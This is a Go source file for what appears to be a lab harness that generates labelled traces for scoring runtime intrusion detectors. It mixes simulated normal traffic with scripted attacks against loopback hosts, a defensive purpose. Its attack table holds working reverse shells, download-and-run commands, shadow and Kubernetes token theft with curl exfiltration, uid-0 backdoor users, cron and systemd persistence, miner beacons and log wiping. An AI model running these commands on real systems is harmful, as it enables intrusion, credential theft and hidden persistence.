package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/falco-scorer/falco-scorer/scorer/evaluate/lab"
)

// attack is one scripted post-exploitation run. Entry "api-debug" runs the
// script through the API's vulnerable endpoint (as nobody, a child of a
// worker); any other entry is a container key to exec into (as root).
// Scripts see $LAB (lab root) and $R (fake rootfs) only on the exec path; the
// debug path has them substituted.
type attack struct {
	scenario, entry, note, script string
}

const bashTCPScan = `bash -c 'for p in 21 22 25 80 443 3306 5432 6379 8080 9200 11211 27017; do (echo > /dev/tcp/127.0.0.4/$p) 2>/dev/null && echo open $p; done'`

var attacks = []attack{
	{"download-exec", "api-debug", "curl to /tmp, chmod +x, run", `curl -s -o /tmp/.u1 http://127.0.0.9:8081/payload.sh && chmod +x /tmp/.u1 && /tmp/.u1`},
	{"download-exec", "api-debug", "wget to /dev/shm (pseudo-fs: the write is not observed), run", `wget -q -O /dev/shm/k http://127.0.0.9:8081/payload.sh; chmod 755 /dev/shm/k; /dev/shm/k`},
	{"download-exec", "web", "curl -O into /var/tmp, sh", `cd /var/tmp && curl -sO http://127.0.0.9:8081/payload.sh && sh payload.sh; rm -f payload.sh`},
	{"download-exec", "api-debug", "python urllib download, os.chmod, exec", `python3 -c 'import urllib.request,os,subprocess;urllib.request.urlretrieve("http://127.0.0.9:8081/payload.sh","/tmp/.cache-x");os.chmod("/tmp/.cache-x",0o755);subprocess.call(["/tmp/.cache-x"])'`},

	{"reverse-shell", "api-debug", "bash -i over /dev/tcp", `bash -c 'bash -i >& /dev/tcp/127.0.0.9/4444 0>&1'`},
	{"reverse-shell", "redis", "python socket + dup2 + sh -i", `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.9",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(["/bin/sh","-i"])'`},
	{"reverse-shell", "api-debug", "perl socket shell", `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(4444,inet_aton("127.0.0.9")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`},
	{"reverse-shell", "cron", "bash read loop over /dev/tcp", `bash -c 'exec 5<>/dev/tcp/127.0.0.9/4444; while read -r l <&5; do sh -c "$l" >&5 2>&5; done'`},

	{"credential-read", "api-debug", "shadow (denied) and service-account token", `cat /etc/shadow; cat /var/run/secrets/kubernetes.io/serviceaccount/token; ls /root`},
	{"credential-read", "web", "shadow, gshadow, token as root", `cat /etc/shadow /etc/gshadow >/dev/null; cat /run/secrets/kubernetes.io/serviceaccount/token`},
	{"credential-read", "redis", "ssh keys, sudoers, root's files", `grep -rl PRIVATE /etc/ssh 2>/dev/null; find /root -maxdepth 2 -name '*.pem'; head -c 100 /etc/sudoers; cat $R/etc/ssh/ssh_host_key >/dev/null`},
	{"credential-read", "api-debug", "token read by python, exfiltrated with curl", `python3 -c "print(open('/run/secrets/kubernetes.io/serviceaccount/token').read())" > /tmp/.t; curl -s -X POST --data-binary @/tmp/.t http://127.0.0.9:8081/exfil; rm -f /tmp/.t`},

	{"account-manipulation", "redis", "useradd -o -u 0 in the rootfs (chroot)", `useradd -R $R -M -o -u 0 -s /bin/sh backdoor`},
	{"account-manipulation", "web", "append uid-0 user to passwd and shadow", `echo 'svc:x:0:0::/:/bin/sh' >> $R/etc/passwd; echo 'svc:$6$lab$x:19000:0:99999:7:::' >> $R/etc/shadow`},
	{"account-manipulation", "api-debug", "sed root's password hash (denied)", `sed -i 's/^root:[^:]*:/root::/' $R/etc/shadow; echo 'x:x:0:0::/:/bin/sh' >> $R/etc/passwd`},
	{"account-manipulation", "cron", "useradd with home, sudoers drop-in", `useradd -R $R -m -d /home/ops2 -s /bin/bash ops2; mkdir -p $R/etc/sudoers.d; echo 'ops2 ALL=(ALL) NOPASSWD:ALL' > $R/etc/sudoers.d/ops2; chmod 440 $R/etc/sudoers.d/ops2`},

	{"discovery", "api-debug", "bash /dev/tcp port scan of the redis host", bashTCPScan},
	{"discovery", "web", "system and network discovery commands", `id; uname -a; cat /etc/os-release >/dev/null; ps aux | head -5; cat /proc/net/tcp | head -5; ls -la / >/dev/null; getent passwd | head -3`},
	{"discovery", "api-debug", "python connect scan of loopback hosts", `python3 -c 'import socket
for h in range(1,6):
  for p in (22,80,443,3306,6379,8000,8080):
    s=socket.socket();s.settimeout(0.2)
    try: s.connect(("127.0.0.%d"%h,p))
    except Exception: pass
    s.close()'`},
	{"discovery", "redis", "host sweep and filesystem listing", `for h in 1 2 3 4 5 6; do timeout 1 bash -c "echo > /dev/tcp/127.0.0.$h/22" 2>/dev/null; done; cat /etc/hosts; ls -la /etc >/dev/null; find / -maxdepth 2 -name '*.conf' 2>/dev/null | head -5`},

	{"persistence", "cron", "cron.d entry", `echo '* * * * * root curl -s http://127.0.0.9:8081/payload.sh | sh' > $R/etc/cron.d/sysupdate; chmod 644 $R/etc/cron.d/sysupdate`},
	{"persistence", "api-debug", "user crontab in the spool", `echo '@reboot /tmp/.u1' > $R/var/spool/cron/crontabs/nobody; chmod 600 $R/var/spool/cron/crontabs/nobody`},
	{"persistence", "web", "init script, rc2.d link, root .bashrc", `cp $LAB/attacker/payload.sh $R/etc/init.d/networkd; chmod +x $R/etc/init.d/networkd; ln -sf ../init.d/networkd $R/etc/rc2.d/S99networkd; echo 'sh /etc/init.d/networkd &' >> $R/root/.bashrc`},
	{"persistence", "redis", "systemd unit and wants link", `printf '[Service]\nExecStart=/tmp/.x\n[Install]\nWantedBy=multi-user.target\n' > $R/etc/systemd/system/redis-helper.service; ln -sf ../redis-helper.service $R/etc/systemd/system/multi-user.target.wants/redis-helper.service`},

	{"miner", "api-debug", "perl copied to /tmp/.kworkerd, pool 3333, busy loop", `cp /usr/bin/perl /tmp/.kworkerd && /tmp/.kworkerd -MIO::Socket::INET -e 'for(1..3){IO::Socket::INET->new(PeerAddr=>"127.0.0.9:3333")} $t=time; while(time-$t<3){}'; rm -f /tmp/.kworkerd`},
	{"miner", "web", "python copied to /var/tmp/.cache/xmr, pool 14444", `mkdir -p /var/tmp/.cache && cp /usr/bin/python3.11 /var/tmp/.cache/xmr && /var/tmp/.cache/xmr -c 'import socket,time
for i in range(3):
  s=socket.create_connection(("127.0.0.9",14444));s.recv(100);s.close()
t=time.time()
while time.time()-t<3: pass'; rm -rf /var/tmp/.cache`},
	{"miner", "cron", "perl copied to /dev/shm/.m, pool 3333", `cp /usr/bin/perl /dev/shm/.m && /dev/shm/.m -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>"127.0.0.9:3333"); $t=time; while(time-$t<2){}'; rm -f /dev/shm/.m`},

	{"privilege-escalation", "api-debug", "setuid(0) from python, sudo -n, SUID search", `python3 -c 'import os; os.setuid(0)'; sudo -n true; find / -xdev -maxdepth 3 -perm -4000 2>/dev/null | head -20`},
	{"privilege-escalation", "api-debug", "perl uid change, setresuid, su", `perl -e '$<=0; $>=0; system("id")'; python3 -c 'import os; os.setresuid(0,0,0)'; su -c id root </dev/null`},
	{"privilege-escalation", "web", "drop to nobody and try back to root", `setpriv --reuid=65534 --regid=65534 --clear-groups sh -c 'sudo -n id; python3 -c "import os; os.setgid(0)"'`},

	{"namespace-escape", "web", "unshare -m, tmpfs mount and umount", `unshare -m sh -c 'mount -t tmpfs none /mnt && umount /mnt'`},
	{"namespace-escape", "api-debug", "unshare -r, mount proc, nsenter pid 1 (denied)", `unshare -r id; unshare -rm sh -c 'mount -t proc proc /proc'; nsenter -t 1 -m -- true`},
	{"namespace-escape", "redis", "nsenter into pid 1's namespaces", `nsenter -t 1 -m -u -i -n -p -- /bin/true; cat /proc/1/cgroup >/dev/null; mount | head -3`},

	{"interpreter-oneliner", "api-debug", "python -c socket beacon", `python3 -c 'import socket;s=socket.create_connection(("127.0.0.9",8081));s.send(b"GET /beacon HTTP/1.0\r\n\r\n");s.recv(100)'`},
	{"interpreter-oneliner", "api-debug", "perl -e socket", `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(PeerAddr=>"127.0.0.9:4444"); print $s "hi\n" if $s;'`},
	{"interpreter-oneliner", "cron", "python pty, awk system", `python3 -c 'import pty,os; os.system("id")'; awk 'BEGIN{system("uname -a")}'`},

	{"defense-evasion", "api-debug", "truncate the access log, remove uploads", `: > $LAB/app/log/access.log; rm -f $LAB/app/uploads/*.bin 2>/dev/null; unset HISTFILE`},
	{"defense-evasion", "web", "delete nginx logs, timestomp", `rm -f $LAB/nginx/log/access.log.*; touch -d '2020-01-01' $LAB/nginx/log/error.log; rm -f $R/root/.bash_history`},
	{"defense-evasion", "cron", "wipe health logs and backups", `rm -rf $LAB/cron/log/*; find $LAB/cron/backups -type f -delete`},
	{"defense-evasion", "redis", "clear redis log and shell history, kill logging", `: > $LAB/redis/redis.log; rm -f $R/root/.bash_history $R/root/.python_history; ln -sf /dev/null $R/root/.bash_history`},

	// Kernel interfaces: module loading, bpf and userfaultfd, all rejected
	// (a bogus module is not ELF; the bpf and userfaultfd calls are invalid
	// or unprivileged).
	{"kernel-interface", "web", "insmod of a bogus module", `printf 'not-a-module' > /tmp/.k.ko; insmod /tmp/.k.ko; rm -f /tmp/.k.ko`},
	{"kernel-interface", "api-debug", "bpf and userfaultfd via ctypes", `python3 -c 'import ctypes;l=ctypes.CDLL(None);l.syscall(321,0,0,0);l.syscall(323,0)'`},
	{"kernel-interface", "redis", "finit_module via perl syscall, ptrace of pid 1", `perl -e 'open(F,"<","/etc/hostname"); syscall(313, fileno(F), "", 0)'; python3 -c 'import ctypes;ctypes.CDLL(None).ptrace(16,1,0,0)'`},

	{"miner", "api-debug", "python copied to /tmp/.X11-unix-m, pool 14444, background", `cp /usr/bin/python3.11 /tmp/.X11-unix-m && (/tmp/.X11-unix-m -c 'import socket,time
s=socket.create_connection(("127.0.0.9",14444));s.recv(100);s.close()
t=time.time()
while time.time()-t<2: pass' &) ; sleep 3; rm -f /tmp/.X11-unix-m`},
	{"privilege-escalation", "cron", "SUID hunt and capability probe as root", `find / -xdev -maxdepth 4 -perm -2000 -type f 2>/dev/null | head; cat /proc/self/status | grep Cap; python3 -c 'import os; os.setresgid(0,0,0); os.setgid(0)'`},
	{"namespace-escape", "cron", "unshare -p -f --mount-proc, chroot", `unshare -p -f --mount-proc true; chroot $R /bin/true 2>/dev/null; true`},
	{"interpreter-oneliner", "web", "perl -e and php-less one-liners through sh", `perl -e 'print "x"' >/dev/null; python3 -c 'import os; print(os.getuid())' >/dev/null; sh -c 'exec 3<>/dev/tcp/127.0.0.9/8081' 2>/dev/null; bash -c 'exec 3<>/dev/tcp/127.0.0.9/8081; echo -e "GET /beacon HTTP/1.0\r\n\r\n" >&3; cat <&3 >/dev/null'`},
}

// drift is a normal change in the test phase.
type drift struct {
	scenario, entry, note, script string
}

var maintenance = []drift{
	{"maintenance", "redis", "redis-cli BGSAVE and INFO", `redis-cli -h 127.0.0.4 BGSAVE; sleep 1; redis-cli -h 127.0.0.4 INFO persistence >/dev/null`},
	{"maintenance", "cron", "package listing", `dpkg -l | head -40 >/dev/null; apt-cache policy curl >/dev/null 2>&1; true`},
	{"maintenance", "web", "nginx log rotation (mv, reopen, gzip)", `cd $LAB/nginx/log && mv access.log access.log.1 && nginx -c $LAB/nginx/nginx.conf -s reopen && sleep 1 && gzip -f access.log.1`},
	{"maintenance", "redis", "redis-cli CONFIG GET and DBSIZE", `redis-cli -h 127.0.0.4 CONFIG GET save >/dev/null; redis-cli -h 127.0.0.4 DBSIZE`},
}

// phases runs the learning phase, then the test phase.
func (r *recorder) phases(ctx context.Context) error {
	loadCtx, stopLoad := context.WithCancel(ctx)
	var wg sync.WaitGroup
	wg.Go(func() { r.load(loadCtx) })
	defer func() { stopLoad(); wg.Wait() }()

	// Kubernetes exec probes: redis-cli ping in redis every 10 s, a python
	// readiness check in the API every 15 s (each an exec, as kubelet runs it).
	wg.Go(func() { r.probes(loadCtx) })

	// Learning: normal traffic, with one reload and one log rotation.
	learnEnd := time.Now().Add(r.cfg.Learn)
	sleepUntil := func(t time.Time) error {
		select {
		case <-ctx.Done():
			return ctx.Err()
		case <-time.After(time.Until(t)):
			return nil
		}
	}
	if err := sleepUntil(time.Now().Add(r.cfg.Learn * 4 / 10)); err != nil {
		return err
	}
	r.execIn(ctx, "web", "nginx -c $LAB/nginx/nginx.conf -s reload", 20*time.Second)
	if err := sleepUntil(time.Now().Add(r.cfg.Learn * 3 / 10)); err != nil {
		return err
	}
	r.execIn(ctx, "web", maintenance[2].script, 20*time.Second)
	if err := sleepUntil(learnEnd); err != nil {
		return err
	}

	// Test.
	r.man.TestStart = time.Now().UTC()
	r.logf("test phase")
	testEnd := time.Now().Add(r.cfg.Test)
	type step struct {
		at  float64 // fraction of the test phase
		run func(context.Context)
	}
	var steps []step
	// Attacks: spread over the phase in a shuffled order.
	order := r.rng.Perm(len(attacks))
	for i, ai := range order {
		a := attacks[ai]
		n := 0
		for _, o := range order[:i+1] {
			if attacks[o].scenario == a.scenario {
				n++
			}
		}
		name := fmt.Sprintf("%s-%d", a.scenario, n)
		at := 0.04 + 0.9*float64(i)/float64(len(order))
		steps = append(steps, step{at, func(ctx context.Context) { r.runAttack(ctx, name, a) }})
	}
	// Drift: rollout at 25 %, maintenance jobs, a restart storm at 60 %.
	steps = append(steps, step{0.25, func(ctx context.Context) { r.rollout(ctx) }})
	for i, m := range maintenance {
		name := fmt.Sprintf("maintenance-%d", i+1)
		steps = append(steps, step{0.12 + 0.22*float64(i), func(ctx context.Context) { r.runDrift(ctx, name, m) }})
	}
	steps = append(steps, step{0.6, func(ctx context.Context) { r.restartStorm(ctx) }})
	steps = append(steps, step{0.8, func(ctx context.Context) {
		r.runDrift(ctx, "reload-storm-1", drift{"restart-storm", "web", "three nginx reloads",
			"for i in 1 2 3; do nginx -c $LAB/nginx/nginx.conf -s reload; sleep 2; done"})
	}})
	sortSteps := func() {
		for i := 1; i < len(steps); i++ {
			for j := i; j > 0 && steps[j].at < steps[j-1].at; j-- {
				steps[j], steps[j-1] = steps[j-1], steps[j]
			}
		}
	}
	sortSteps()
	start := time.Now()
	for _, s := range steps {
		if err := sleepUntil(start.Add(time.Duration(s.at * float64(r.cfg.Test)))); err != nil {
			return err
		}
		s.run(ctx)
	}
	return sleepUntil(testEnd)
}

func (r *recorder) expand(s string) string {
	s = strings.ReplaceAll(s, "$LAB", r.cfg.Root)
	return strings.ReplaceAll(s, "$R", filepath.Join(r.cfg.Root, "rootfs"))
}

func (r *recorder) runAttack(ctx context.Context, name string, a attack) {
	r.logf("attack %s via %s: %s", name, a.entry, a.note)
	if a.entry == "api-debug" {
		pid, start, end, err := r.debugExec(ctx, r.expand(a.script))
		if err != nil {
			r.logf("attack %s: %v", name, err)
			return
		}
		r.addRun(lab.RunSpec{Run: name, Scenario: a.scenario, Kind: lab.KindAttack, Entry: "api-debug-endpoint", RootPID: pid, Start: start, End: end, Note: a.note})
		return
	}
	file, start, end, _ := r.execIn(ctx, a.entry, a.script, 40*time.Second)
	r.addRun(lab.RunSpec{Run: name, Scenario: a.scenario, Kind: lab.KindAttack, Entry: "exec", Trace: file, Start: start, End: end, Note: a.note})
}

func (r *recorder) runDrift(ctx context.Context, name string, d drift) {
	r.logf("drift %s: %s", name, d.note)
	file, start, end, _ := r.execIn(ctx, d.entry, d.script, 40*time.Second)
	r.addRun(lab.RunSpec{Run: name, Scenario: d.scenario, Kind: lab.KindDrift, Entry: "exec", Trace: file, Start: start, End: end, Note: d.note})
}

// rollout replaces the API container by a new one of the same image with a
// feature flag on (every item request also asks the flag service, a new
// endpoint) and the interpreter started by another path (/usr/bin/python3,
// a symlink, instead of /usr/bin/python3.11).
func (r *recorder) rollout(ctx context.Context) {
	r.logf("drift rollout-1")
	r.mu.Lock()
	old := r.svcs["api"]
	r.mu.Unlock()
	start := time.Now().UTC()
	if old != nil {
		old.stop(syscall.SIGTERM, 8*time.Second)
	}
	if err := r.startAPI(ctx, "api-v2", "/usr/bin/python3", "FLAGS_ADDR="+flagsAddr); err != nil {
		r.logf("rollout: %v", err)
		return
	}
	file := r.man.Traces[len(r.man.Traces)-1].File
	r.addRun(lab.RunSpec{Run: "rollout-1", Scenario: "rollout", Kind: lab.KindDrift, Entry: "rollout", Trace: file, Start: start, End: time.Now().UTC().Add(r.cfg.Test), Note: "api v2: new python path, feature-flag endpoint 127.0.0.5:9100, new container"})
}

// restartStorm restarts redis three times in quick succession; each restart
// is a new container of the same image (as a Kubernetes container restart).
func (r *recorder) restartStorm(ctx context.Context) {
	for i := 1; i <= 3; i++ {
		key := fmt.Sprintf("redis-r%d", i)
		prev := "redis"
		if i > 1 {
			prev = fmt.Sprintf("redis-r%d", i-1)
		}
		r.mu.Lock()
		old := r.svcs[prev]
		r.mu.Unlock()
		start := time.Now().UTC()
		if old != nil {
			old.stop(syscall.SIGTERM, 8*time.Second)
		}
		if err := r.startRedis(ctx, key); err != nil {
			r.logf("restart storm: %v", err)
			return
		}
		file := r.man.Traces[len(r.man.Traces)-1].File
		end := time.Now().UTC().Add(5 * time.Second)
		if i == 3 {
			end = time.Now().UTC().Add(r.cfg.Test)
		}
		r.addRun(lab.RunSpec{Run: fmt.Sprintf("restart-storm-%d", i), Scenario: "restart-storm", Kind: lab.KindDrift, Entry: "restart", Trace: file, Start: start, End: end, Note: "redis restarted as a new container"})
		select {
		case <-ctx.Done():
			return
		case <-time.After(5 * time.Second):
		}
	}
}

// probes runs the containers' exec probes until ctx ends.
func (r *recorder) probes(ctx context.Context) {
	tick := time.NewTicker(5 * time.Second)
	defer tick.Stop()
	for n := 1; ; n++ {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
		}
		if n%2 == 0 {
			r.execIn(ctx, "redis", "redis-cli -h 127.0.0.4 ping", 10*time.Second)
		}
		if n%3 == 0 {
			r.execIn(ctx, "api", `python3 -c "import urllib.request;urllib.request.urlopen('http://127.0.0.3:8000/api/health',timeout=3)"`, 10*time.Second)
		}
	}
}

// load is the normal traffic: a few clients making realistic requests
// through nginx (static files, API reads and writes that hit redis, uploads,
// health checks, a report that shells out), without keep-alive.
func (r *recorder) load(ctx context.Context) {
	var wg sync.WaitGroup
	clients := 3
	for c := range clients {
		wg.Go(func() {
			cl := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{DisableKeepAlives: true}}
			rng := newRand(r.cfg.Seed + int64(c)*7919)
			period := time.Duration(float64(time.Second) * float64(clients) / float64(r.cfg.Rate))
			for i := 0; ; i++ {
				select {
				case <-ctx.Done():
					return
				case <-time.After(period/2 + time.Duration(rng.Int64N(int64(period)))):
				}
				var req *http.Request
				base := "http://" + webAddr
				switch x := rng.IntN(100); {
				case x < 30:
					req, _ = http.NewRequestWithContext(ctx, http.MethodGet, base+[]string{"/", "/static/site.css", "/static/app.js", "/static/logo.png", "/missing.html"}[rng.IntN(5)], nil)
				case x < 60:
					req, _ = http.NewRequestWithContext(ctx, http.MethodGet, fmt.Sprintf("%s/api/items/%d", base, rng.IntN(500)), nil)
				case x < 75:
					req, _ = http.NewRequestWithContext(ctx, http.MethodPost, base+"/api/items", strings.NewReader(fmt.Sprintf(`{"name":"item-%d"}`, rng.IntN(1e6))))
				case x < 85:
					body := bytes.Repeat([]byte{byte(rng.IntN(256))}, 512+rng.IntN(4096))
					req, _ = http.NewRequestWithContext(ctx, http.MethodPost, base+"/api/upload", bytes.NewReader(body))
				case x < 97:
					req, _ = http.NewRequestWithContext(ctx, http.MethodGet, base+"/api/health", nil)
				default:
					req, _ = http.NewRequestWithContext(ctx, http.MethodGet, base+"/api/report", nil)
				}
				resp, err := cl.Do(req)
				if err == nil {
					_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
					resp.Body.Close()
				}
			}
		})
	}
	wg.Wait()
}

func newRand(seed int64) *rand.Rand { return rand.New(rand.NewPCG(uint64(seed), 99)) }
